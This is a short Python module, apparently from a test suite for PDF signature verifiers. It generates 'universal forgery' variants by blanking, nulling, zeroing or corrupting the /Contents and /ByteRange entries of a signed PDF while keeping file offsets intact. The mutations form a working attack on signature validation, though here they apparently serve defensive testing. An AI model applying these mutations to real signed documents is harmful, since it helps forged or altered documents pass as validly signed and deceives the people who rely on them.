"""Universal forgery: the signature says less, or nothing, and a reader may call that good."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

_RANGE = re.compile(rb"/ByteRange \[[^\]]*\]\s*")
_CONTENTS = re.compile(rb"/Contents\s*<([0-9A-Fa-f]+)>")


def _replaced(pattern: re.Pattern[bytes], new: bytes) -> Callable[[bytes], bytes]:
    def attack(pdf: bytes) -> bytes:
        match = list(pattern.finditer(pdf))[-1]
        # As long as it was, so that every other offset stays true.
        return pdf[: match.start()] + new.ljust(len(match.group(0))) + pdf[match.end() :]

    return attack


def contents_of_zeros(pdf: bytes) -> bytes:
    """The hole is full of zeros."""
    match = list(_CONTENTS.finditer(pdf))[-1]
    return pdf[: match.start(1)] + b"0" * len(match.group(1)) + pdf[match.end(1) :]


VARIANTS = {
    "contents_missing": _replaced(_CONTENTS, b""),
    "contents_null": _replaced(_CONTENTS, b"/Contents null"),
    "contents_empty": _replaced(_CONTENTS, b"/Contents <>"),
    "contents_one_zero": _replaced(_CONTENTS, b"/Contents <00>"),
    "contents_of_zeros": contents_of_zeros,
    "contents_literal": _replaced(_CONTENTS, b"/Contents ()"),
    "range_missing": _replaced(_RANGE, b""),
    "range_null": _replaced(_RANGE, b"/ByteRange null "),
    "range_empty": _replaced(_RANGE, b"/ByteRange [] "),
    "range_of_nothing": _replaced(_RANGE, b"/ByteRange [0 0 0 0] "),
    "range_negative": _replaced(_RANGE, b"/ByteRange [0 -1 -1 0] "),
    "range_of_words": _replaced(_RANGE, b"/ByteRange [a b c d] "),
    "range_of_two": _replaced(_RANGE, b"/ByteRange [0 100] "),
    "range_beyond_the_end": _replaced(_RANGE, b"/ByteRange [0 9 99 99999999] "),
}
